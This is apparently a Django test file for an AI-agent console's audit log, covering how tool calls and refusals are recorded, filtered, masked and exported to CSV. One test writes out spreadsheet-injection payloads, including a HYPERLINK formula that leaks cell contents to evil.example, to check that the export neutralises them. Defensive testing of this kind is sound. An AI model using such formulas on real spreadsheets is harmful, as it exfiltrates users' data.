"""The audit: every tool call and every refusal, with who, where, what and why; filtered in
the admin and exported as CSV."""
import csv
import html
import io

from console.models import AuditEntry

from ..ahp.protocol.harness import AhpClient, default_chat
from .conftest import SENTENCES

AUDIT = "/admin/console/auditentry/"


def outcomes(queryset):
    return sorted((c.tool_name, c.outcome, c.refusal_reason) for c in queryset.with_outcome())


def listed(client, query):
    return sorted(call.tool_name for call in client.get(f"{AUDIT}{query}").context["cl"].result_list)


def test_it_classifies_every_call_and_every_refusal_by_its_sentence(acme, acme_work):
    turn = acme_work.turn(acme_work.session())
    for reason, sentence in SENTENCES.items():
        acme_work.refused(turn, sentence, tool=f"refused_{reason}")
    acme_work.ran(turn, "lint")
    acme_work.ran(turn, "build", success=False)
    acme_work.timed_out(turn, "pick")
    acme_work.client_call(turn, "ask")
    assert outcomes(AuditEntry.objects.for_tenant(acme.tenant)) == [
        ("ask", "waiting", ""),
        ("build", "failed", ""),
        ("lint", "ok", ""),
        ("pick", "timed_out", ""),
        ("refused_availability", "refused", "availability"),
        ("refused_grant", "refused", "grant"),
        ("refused_limit", "refused", "limit"),
        ("refused_unknown_tool", "refused", "unknown_tool"),
    ]


def test_a_refusal_over_a_real_socket_is_audited_with_who_and_where(acme, host, tenant_admin):
    with AhpClient(host.port, acme.tokens["member"]) as client:
        session = client.create_session()
        chat = default_chat(client, session)
        client.subscribe(chat)
        client.reply_to(client.start_turn(chat, '/call nope {"x": 1}'))
    entry = AuditEntry.objects.for_tenant(acme.tenant).with_outcome().get()
    assert (entry.turn.sender, entry.outcome, entry.refusal_reason) == (acme.member, "refused", "unknown_tool")
    page = tenant_admin.get(f"{AUDIT}?reason=unknown_tool").content.decode()
    assert "acme-member" in page and "No tool named &quot;nope&quot; is available in this chat." in page


def test_the_admin_filters_by_outcome_and_reason(acme, acme_work, tenant_admin):
    turn = acme_work.turn(acme_work.session())
    acme_work.refused(turn, SENTENCES["grant"], tool="guarded")
    acme_work.refused(turn, SENTENCES["limit"], tool="create_session")
    acme_work.ran(turn, "lint")
    assert listed(tenant_admin, "?reason=grant") == ["guarded"]
    assert listed(tenant_admin, "?reason=limit") == ["create_session"]
    assert listed(tenant_admin, "?outcome=ok") == ["lint"]
    assert listed(tenant_admin, "?outcome=refused") == ["create_session", "guarded"]


def test_a_tenant_admin_sees_only_their_tenants_audit(acme, globex, acme_work, tenant_admin):
    from .conftest import Work

    Work(globex).refused(Work(globex).turn(Work(globex).session()), SENTENCES["unknown_tool"], tool="globex_secret")
    acme_work.ran(acme_work.turn(acme_work.session()), "acme_tool")
    assert listed(tenant_admin, "") == ["acme_tool"]
    exported = tenant_admin.get(f"{AUDIT}export.csv").content.decode()
    assert "acme_tool" in exported and "globex_secret" not in exported


def test_it_exports_the_filtered_audit_as_csv(acme, acme_work, tenant_admin):
    session = acme_work.session()
    turn = acme_work.turn(session)
    acme_work.refused(turn, SENTENCES["grant"], tool="guarded")
    acme_work.ran(turn, "lint", source="plugin")
    response = tenant_admin.get(f"{AUDIT}export.csv?outcome=refused")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    row = rows[0]
    assert {k: row[k] for k in ("tenant", "who", "session", "chat", "tool", "source", "outcome", "refusal reason",
                                "sentence")} == {
        "tenant": "acme", "who": "acme-member", "session": str(session.id), "chat": str(turn.chat_id),
        "tool": "guarded", "source": "", "outcome": "refused", "refusal reason": "grant",
        "sentence": "acme-guest may not chat:tool here"}
    everything = list(csv.DictReader(io.StringIO(tenant_admin.get(f"{AUDIT}export.csv").content.decode())))
    assert sorted(r["tool"] for r in everything) == ["guarded", "lint"]
    assert [r["source"] for r in everything if r["tool"] == "lint"] == ["plugin"]


def test_a_member_cannot_read_the_audit(acme, client):
    acme.member.is_staff = True
    acme.member.save()
    client.force_login(acme.member)
    assert client.get(AUDIT).status_code == 403
    assert client.get(f"{AUDIT}export.csv").status_code == 403


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(acme, acme_work, tenant_admin):
    turn = acme_work.turn(acme_work.session())
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd", "-2+cmd", "@SUM(A1)", "\tTAB", "\rCR"]
    for formula in formulas:
        acme_work.ran(turn, formula)
    acme_work.ran(turn, "lint")
    rows = csv.DictReader(io.StringIO(tenant_admin.get(f"{AUDIT}export.csv").content.decode()))
    tools = sorted(row["tool"] for row in rows)
    assert tools == sorted(["'" + formula for formula in formulas] + ["lint"])


def made_at(call, seconds_ago):
    from datetime import timedelta

    from django.utils import timezone

    from sessions_app.models import ToolCall

    ToolCall.objects.filter(pk=call.pk).update(created=timezone.now().replace(microsecond=0)
                                               - timedelta(seconds=seconds_ago))


def test_the_audit_is_newest_first_to_the_second_with_masked_bounded_arguments_and_the_csv_agrees(
        acme, acme_work, tenant_admin):
    from sessions_app.actions import do_begin_tool_call, do_complete_tool_call

    turn = acme_work.turn(acme_work.session())
    for tool, seconds_ago in (("second", 20), ("newest", 5), ("oldest", 40)):
        made_at(acme_work.ran(turn, tool), seconds_ago)
    call = do_begin_tool_call(turn, "Bash", {"command": "curl -H 'Authorization: Bearer sk-live-123' "
                                                        "https://u:pw@api.example/?key=abc && GITHUB_TOKEN=ghp_9 make",
                                             "apiKey": "sk-2", "notes": "x" * 300})
    do_complete_tool_call(call.id, {"success": True, "pastTenseMessage": "Ran", "content": []})
    made_at(call, 60)
    response = tenant_admin.get(AUDIT)
    assert [c.tool_name for c in response.context["cl"].result_list] == ["newest", "second", "oldest", "Bash"]
    page = response.content.decode()
    shown = page[page.index("Bash"):]
    arguments = html.unescape(shown[shown.index("<code>") + 6:shown.index("</code>")])
    whole = ('{"apiKey": "<set>", "command": "curl -H \'Authorization: Bearer <set>\' https://<set>@api.example/?key=<set> '
             '&& GITHUB_TOKEN=<set> make", "notes": "' + "x" * 300 + '"}')
    assert arguments == whole[:79] + "…"
    assert "sk-" not in page and "ghp_" not in page and "pw@" not in page
    newest = response.context["cl"].result_list[0].created
    assert f"{newest:%Y-%m-%d %H:%M:%S}" in page  # times to the second
    rows = list(csv.DictReader(io.StringIO(tenant_admin.get(f"{AUDIT}export.csv").content.decode())))
    assert [r["tool"] for r in rows] == ["newest", "second", "oldest", "Bash"]
    assert rows[3]["arguments"] == whole  # the CSV carries up to 2000 characters


def test_the_tool_call_turn_and_chat_lists_are_newest_first(acme, acme_work, tenant_admin):
    from datetime import timedelta

    from django.utils import timezone

    from sessions_app.models import Chat, Turn

    sessions = [acme_work.session() for _ in range(3)]
    for n, session in enumerate(sessions):
        Chat.objects.filter(session=session).update(created=timezone.now() - timedelta(minutes=n))
        turn = acme_work.turn(session)
        Turn.objects.filter(pk=turn.pk).update(started=timezone.now() - timedelta(minutes=n), text=f"turn {n}")
        made_at(acme_work.ran(turn, f"tool_{n}"), n * 60)
    listed_of = lambda url: tenant_admin.get(url).context["cl"].result_list
    assert [c.tool_name for c in listed_of("/admin/sessions_app/toolcall/")] == ["tool_0", "tool_1", "tool_2"]
    assert [t.text for t in listed_of("/admin/sessions_app/turn/")] == ["turn 0", "turn 1", "turn 2"]
    assert [c.session_id for c in listed_of("/admin/sessions_app/chat/")] == [s.pk for s in sessions]
